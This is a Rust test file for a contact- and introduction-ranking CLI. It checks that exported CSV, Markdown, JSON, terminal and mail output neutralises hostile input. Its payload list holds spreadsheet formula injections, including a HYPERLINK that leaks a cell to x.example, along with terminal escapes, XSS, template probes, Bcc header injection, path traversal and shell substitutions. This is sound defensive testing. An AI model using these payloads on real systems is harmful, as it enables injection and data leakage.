//! Names, titles, notes and paths come from strangers: whatever they hold, no output becomes a formula, markup, a header, or
//! a command to a terminal.

use std::collections::BTreeSet;

use super::world::{Run, World};

const AS_OF: &str = "2026-06-30";

/// What strangers may be called.
fn payloads() -> Vec<String> {
    let plain = [
        // formulas of spreadsheets
        "=HYPERLINK(\"http://x.example/?\"&A1)",
        "+calc|'/c'!A1",
        "-2+3",
        "@SUM(1)",
        " =1+1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "\"=1+1",
        "%0A=1",
        "'=1",
        "|=1",
        // a terminal
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;http://x.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{9b}31mC1",
        "back\u{8}\u{8}\u{8}space",
        "nul\u{0}nul",
        "next\u{85}line",
        "line\u{2028}separator",
        "\u{202e}turned",
        "\u{2066}apart\u{2069}",
        "no\u{200b}gap\u{200d}",
        "\u{e0041}tag",
        // markup
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "![x](http://x.example/t.png)",
        "<http://x.example>",
        "http://x.example/bare",
        "a|b|c",
        "`code`",
        "# heading",
        "* * *",
        "**bold** __bold__",
        "~~struck~~",
        "&lt;b&gt;",
        "&#x3c;b&#x3e;",
        "</style></title><script>",
        "--> <b>",
        "\\[x\\](y)",
        "- [x] know",
        // templates
        "{{ 7*7 }}",
        "{% for x in range(9) %}x{% endfor %}",
        "{{ self }}",
        "${7*7}",
        // mail
        "x%40evil.example?bcc=y",
        "a&b=c",
        "Bcc: victim@evil.example",
        // paths and shells
        "../../../../PWN",
        "..\\..\\x",
        "/etc/passwd",
        "CON",
        "$(touch PWN2)",
        "`touch PWN3`",
        "'; touch PWN4; '",
        "--help",
        "-rf",
        "%s%n%x",
    ];
    let mut all: Vec<String> = plain.map(str::to_owned).to_vec();
    all.push("long ".repeat(60).trim().to_owned());
    all.push(format!("e{}", "\u{301}".repeat(60)));
    all
}

fn quoted(cells: &[&str]) -> String {
    let cells = cells
        .iter()
        .map(|cell| format!("\"{}\"", cell.replace('"', "\"\"")));
    cells.collect::<Vec<_>>().join(",") + "\n"
}

/// Every other one introduces the next to somebody.
fn introducing() -> String {
    let mut mails = String::from("from,to,at,kind,message\n");
    for n in (0..payloads().len() - 1).step_by(2) {
        let next = n + 1;
        for (day, message) in [("2026-01-01", ""), ("2026-02-01", "both")] {
            for to in ["z".to_owned(), format!("n{next}")] {
                mails += &format!("in:n{n},in:{to},{day},mail,{message}\n");
            }
        }
        mails += &format!("in:n{next},in:z,2026-02-02,mail,\n");
    }
    mails
}

/// A team among whose contacts each payload is a first name, a surname, an employer, a title, an account and a note.
fn world() -> World {
    let world = World::new();
    let header = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n";
    let (mut own, mut others, mut know) = (
        header.to_owned(),
        header.to_owned(),
        String::from("from,to,kind\n"),
    );
    let mut targets = String::from("Record ID,=Header,Name,Company,Title,Why,Value\n");
    let mut accounts = String::from("name,domain,headcount,relation\n");
    for (n, text) in payloads().iter().enumerate() {
        let (slug, mail) = (
            format!("https://www.linkedin.com/in/n{n}"),
            format!("n{n}@x{n}.example"),
        );
        let surname = format!("N{n}");
        own += &quoted(&[
            text,
            &surname,
            &slug,
            &mail,
            "Northwind",
            text,
            "01 Jan 2024",
        ]);
        others += &quoted(&[text, &surname, &slug, &mail, text, text, "01 Jan 2024"]);
        let (first, slug) = (format!("F{n}"), format!("https://www.linkedin.com/in/f{n}"));
        others += &quoted(&[&first, text, &slug, "", text, "VP Sales", "01 Jan 2024"]);
        know += &quoted(&["in:me", &format!("in:n{n}"), "worked_with"]);
        know += &quoted(&[&format!("in:n{n}"), &format!("in:f{n}"), "knows"]);
        targets += &quoted(&[text, text, &format!("F{n} {text}"), text, text, text, "100"]);
        accounts += &quoted(&[text, &format!("x{n}.example"), "10", ""]);
    }
    world
        .file("ex/mails.csv", introducing())
        .file("ex/me/Connections.csv", own)
        .file("ex/bo/Connections.csv", others)
        .file(
            "ex/owners.csv",
            "file,name,url\nme/Connections.csv,=Me Myself,in/me\nbo/Connections.csv,Bo <script>alert(2)</script>,in/bo\n",
        )
        .file("ex/know.csv", know)
        .file("ex/\u{1b}[31mred\u{202e}.csv", accounts)
        .file("targets.csv", targets)
        .file("one.csv", "Company\nNorthwind\n")
        .file("ws/settings.toml", "[offer]\nwhat = \"make quotes\"\nfor_whom = \"plants\"\n");
    let run = world.go("import ex -w ws");
    assert_eq!(run.code, 0, "{}", run.err);
    for (n, text) in payloads().iter().enumerate() {
        let (from, to) = (format!("in:n{n}"), format!("in:f{n}"));
        let text = format!("note {text}");
        let args = [
            "log", "asked", &from, &to, "--reason", &text, "--as", "in:me", "-w", "ws", "--as-of",
            AS_OF, "-q",
        ];
        if !text.contains('\0') {
            let run = world.run(&args);
            assert_eq!(run.code, 0, "{text}: {}", run.err);
        }
    }
    world
}

/// Nothing moves the cursor, colours, turns the direction, or hides.
fn is_plain(what: &str, text: &str) {
    let hidden = text
        .chars()
        .find(|c| *c != '\n' && introrank::core::display::is_hidden(*c));
    assert_eq!(hidden, None, "{what}: {text:.2000}");
}

/// No cell is run as a formula.
fn is_no_formula(what: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            let seen = cell.trim_start_matches(|c: char| {
                c.is_whitespace() || introrank::core::display::is_hidden(c)
            });
            let is_number = cell.parse::<f64>().is_ok();
            let moves = cell.contains(|c: char| c.is_control() && !"\n\r\t".contains(c));
            assert!(!moves, "{what}: {cell:?}");
            assert!(
                is_number || !seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                "{what}: {cell:?}"
            );
        }
    }
}

/// Markdown without what is escaped in it has no markup but our own: tables, headings, emphasis of our own words.
fn is_no_markup(what: &str, text: &str) {
    is_plain(what, text);
    let mut columns = None;
    for line in text.lines() {
        let mut bare = String::new();
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            if c == '\\' {
                chars.next();
                bare.push('x');
            } else {
                bare.push(c);
            }
        }
        let bare = bare.replace("<!-- introrank:", "").replace("-->", "");
        for markup in ["<", "](", "![", "`", "://", "__", "&lt", "&#"] {
            assert!(!bare.contains(markup), "{what}: {markup} in {line}");
        }
        // Rows of one table have as many cells as its head.
        if bare.starts_with('|') {
            let cells = bare.matches('|').count();
            assert_eq!(*columns.get_or_insert(cells), cells, "{what}: {line}");
        } else {
            columns = None;
        }
    }
}

fn check(what: &str, run: &Run) {
    assert!(run.code < 2, "{what}: {}", run.err);
    is_plain(&format!("{what} (remarks)"), &run.err);
    let format = what
        .split("--format ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next());
    match format {
        Some("csv") => is_no_formula(what, &run.out),
        Some("md") => is_no_markup(what, &run.out),
        Some("json") => {
            let read = serde_json::from_str::<serde_json::Value>(&run.out);
            assert!(read.is_ok(), "{what}: {}", run.out);
        }
        Some("jsonl") => {
            for line in run.out.lines() {
                serde_json::from_str::<serde_json::Value>(line).unwrap();
            }
        }
        _ => is_plain(what, &run.out),
    }
}

/// Tables, pages, mails, CSV files and remarks each escaped in their own way, some not at all: a title became a link in
/// Markdown, an address added a Bcc, a wide sign was a formula, a path coloured the terminal.
#[test]
fn no_output_becomes_more_than_text() {
    let world = world();
    let commands = [
        "find Northwind --role any --explain",
        "find in:f1 --explain",
        "batch targets.csv --team",
        "plan targets.csv --explain",
        "verify targets.csv --explain",
        "today",
        "ledger",
        "ledger --all",
        "metrics",
        "metrics --by rep",
        "metrics --by introducer",
        "metrics --by account",
        "nurture",
        "forecast",
        "match targets.csv",
        "changes",
        "introductions",
        "imports list",
        "people review",
        "decisions list",
        "health",
        "missed",
    ];
    let formats = ["", "table", "md", "csv", "json", "jsonl"];
    let mut checked = 0;
    for command in commands {
        for format in formats {
            let mut words: Vec<&str> = command.split(' ').collect();
            words.extend(["-w", "ws"]);
            if !format.is_empty() {
                words.extend(["--format", format]);
            }
            let has_day = !["imports", "decisions", "match"].contains(&words[0]);
            words.extend(has_day.then_some(["--as-of", AS_OF]).into_iter().flatten());
            let asks = ["find"].contains(&words[0]);
            words.extend(asks.then_some(["--as", "in:me"]).into_iter().flatten());
            let run = world.run(&words);
            if run.code == 2 && run.err.contains("invalid value") {
                continue; // not every command has every format
            }
            let usual = ["batch", "changes"].contains(&words[0]) && format.is_empty();
            let format = if usual { "csv" } else { format };
            check(&format!("{command} --format {format} "), &run);
            checked += 1;
        }
    }
    assert!(checked > 60, "{checked}");
    let all = world.go("introductions -w ws --format csv -q").rows();
    assert!(all.len() > 20, "{}", all.len());
    for key in ["in:n0", "in:f27", "in:bo"] {
        check(
            "people show",
            &world.run(&["people", "show", key, "-w", "ws"]),
        );
    }
    for format in ["table", "md", "csv", "json"] {
        let target = "x\u{1b}[31mRED\u{202e}";
        let words = [
            "find", target, "--as", "in:me", "-w", "ws", "--format", format,
        ];
        let run = world.run(&words);
        check(&format!("find --format {format} "), &run);
    }
    let dry = world.go("forget in:n3 --dry-run -w ws");
    check("forget --dry-run", &dry);
    for crm in ["salesforce", "hubspot"] {
        let run = world.go(&format!(
            "batch targets.csv --team --crm {crm} --names -w ws --as-of {AS_OF} -q"
        ));
        assert!(run.code < 2, "{}", run.err);
        is_no_formula(crm, &run.out);
    }
}

/// An address `x%40evil?bcc=…` added a reader to a mail.
#[test]
fn no_mail_has_more_readers_than_its_address() {
    let world = world();
    let mut mails = 0;
    for (n, text) in payloads().iter().enumerate() {
        let key = format!("in:n{n}");
        let ask = |format: &str, more: &[&str]| {
            let to = format!("in:f{n}");
            let why = format!("--why={text}");
            let mut words = vec!["ask", &key, &to, &why, "--as", "in:me", "-w", "ws"];
            words.extend(["--as-of", AS_OF, "--format", format]);
            words.extend(more);
            world.run(&words)
        };
        if text.contains('\0') {
            continue;
        }
        for format in ["text", "md", "json"] {
            let run = ask(format, &[]);
            if run.code == 2 && run.err.contains("is not to be sent") {
                is_plain("ask", &run.err);
                continue;
            }
            check(&format!("ask {n} --format {format} "), &run);
        }
        let link = ask("mailto", &["--mail"]);
        // Whoever judges texts refuses some of these.
        if link.code == 2 {
            assert!(link.err.contains("is not to be sent"), "{}", link.err);
            continue;
        }
        mails += 1;
        let link = link.out.trim_end();
        assert_eq!(link.matches('?').count(), 1, "{link}");
        assert_eq!(link.matches('&').count(), 1, "{link}");
        assert!(!link.to_lowercase().contains("bcc="), "{link}");
        let mail = ask("eml", &["--mail"]);
        let (headers, _) = mail.out.split_once("\r\n\r\n").unwrap();
        let names = headers
            .split("\r\n")
            .filter(|line| !line.starts_with([' ', '\t']));
        let names: BTreeSet<String> = names
            .map(|line| line.split(':').next().unwrap().to_lowercase())
            .collect();
        for name in &names {
            let known = [
                "date",
                "message-id",
                "x-unsent",
                "subject",
                "to",
                "mime-version",
                "content-type",
                "content-transfer-encoding",
            ];
            assert!(known.contains(&name.as_str()), "{name}: {headers}");
        }
    }
    assert!(mails > 40, "{mails}");
}

/// Two colleagues shared one page, and a key of 300 characters stopped all pages half way.
#[test]
fn every_colleague_has_a_page_of_their_own() {
    let world = World::new();
    let long = "x".repeat(300);
    let mut owners = String::from("file,name,url\n");
    for (n, owner) in ["a-b", "a_b", &long].iter().enumerate() {
        owners += &format!("o{n}.csv,Owner {n},https://www.linkedin.com/in/{owner}\n");
        let row = format!("Tess,Adler,tess,Fabrikam,CFO,0{} Jan 2024", n + 1);
        let other = format!("Bo,Holm{n},bo{n},Northwind,CFO,01 Jan 2024");
        world.export(&format!("e/o{n}.csv"), &[&row, &other]);
    }
    world
        .file("e/owners.csv", owners)
        .file("list.csv", "Company\nNorthwind\nFabrikam\n");
    assert_eq!(world.go("import e -w ws -q").code, 0);
    let run = world.go(&format!(
        "verify list.csv --pages pages -w ws --as-of {AS_OF}"
    ));
    assert_eq!(run.code, 0, "{}", run.err);
    let pages: Vec<_> = std::fs::read_dir(world.path("pages"))
        .unwrap()
        .flatten()
        .collect();
    assert_eq!(pages.len(), 3, "{pages:?}");
    for page in pages {
        let text = std::fs::read_to_string(page.path()).unwrap();
        is_no_markup("page", &text);
        // What is ticked comes back, whatever the keys are.
        world.file("back.md", text.replacen("[ ]", "[x]", 1));
        let back = world.go(&format!("verify --answers back.md -w ws --as-of {AS_OF}"));
        assert_eq!(back.code, 0, "{}", back.err);
        assert!(back.out.starts_with("1 new"), "{}", back.out);
    }
}
